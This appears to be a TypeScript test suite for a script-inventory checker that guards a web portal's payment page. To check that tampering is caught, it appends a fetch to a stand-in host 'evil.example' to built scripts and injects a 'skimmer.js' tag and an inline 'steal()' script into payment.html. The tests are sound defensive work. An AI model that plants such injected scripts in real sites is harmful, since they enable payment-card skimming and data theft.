import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { brotliCompressSync } from 'node:zlib'
import { compareScripts, integrityOf, listScripts } from '../../scripts/scriptInventory'
import { startNginx } from './support/nginx'
import { expect, test } from './support/test'

test('P5: the list of scripts names what is served, and tells each change', async ({ server }) => {
  const root = mkdtempSync(join(tmpdir(), 'portal-scripts-'))
  cpSync('dist', root, { recursive: true })
  const listed = listScripts('dist')
  const [apiOrigin, paymentOrigin] = [server.origin, server.paymentOrigin]
  const nginx = await startNginx({ root, brand: 'second', apiOrigin, paymentOrigin })
  const compare = () =>
    compareScripts(listed, { 'index.html': nginx.origin, 'payment.html': nginx.paymentDocumentOrigin })
  expect(await compare()).toEqual([])

  const form =
    listed.find(({ document, owner }) => document === 'payment.html' && owner === 'portal')?.path ?? ''
  rmSync(join(root, `${form}.gz`))
  appendFileSync(join(root, form), ';fetch("https://evil.example")')
  expect(await compare()).toEqual([`${form} is not what was built`])
  rmSync(join(root, form))
  expect(await compare()).toEqual([`${form} is missing`])
  cpSync(`dist${form}`, join(root, form))
  cpSync(`dist${form}.gz`, join(root, `${form}.gz`))

  const [own = ''] = listed.flatMap(({ document, path }) => (document === 'index.html' ? [path] : []))
  writeFileSync(join(root, `${own}.br`), brotliCompressSync('fetch("https://evil.example")'))
  expect(await compare()).toEqual([`${own} is not what was built (br)`])
  writeFileSync(join(root, `${own}.br`), 'not compressed')
  expect(await compare()).toEqual([`${own} is not what was built (br)`])
  cpSync(`dist${own}.br`, join(root, `${own}.br`))

  const html = readFileSync(join(root, 'payment.html'), 'utf8')
  writeFileSync(
    join(root, 'payment.html'),
    html.replace('</head>', '<script src="/assets/skimmer.js"></script></head>'),
  )
  expect(await compare()).toEqual(['/payment.html loads /assets/skimmer.js, which is not listed'])
  writeFileSync(join(root, 'payment.html'), html.replace('</head>', '<script>steal()</script></head>'))
  expect(await compare()).toEqual(['/payment.html holds a script of its own'])
  cpSync('dist/payment.html', join(root, 'payment.html'))

  await nginx.stop()
  expect(await compare()).toEqual(
    [nginx.origin, nginx.paymentDocumentOrigin].map((origin) => `${origin} cannot be reached: ECONNREFUSED`),
  )
  rmSync(root, { recursive: true })
})

test('P5: a script that a single page loads is found', async () => {
  const html = '<script src="/own.js"></script>'
  const site = createServer(({ url }, answer) =>
    answer.end(url === '/bills' ? html.replace('own', 'skimmer') : html),
  )
  await new Promise<void>((settle) => site.listen(0, '127.0.0.1', settle))
  const origin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`
  const own = { owner: 'portal', document: 'index.html', reason: '', integrity: integrityOf(html) } as const
  const found = await compareScripts([{ path: '/own.js', ...own }], {
    'index.html': origin,
    'payment.html': origin,
  })
  expect(found).toEqual(['/bills loads /skimmer.js, which is not listed'])
  site.close()
})
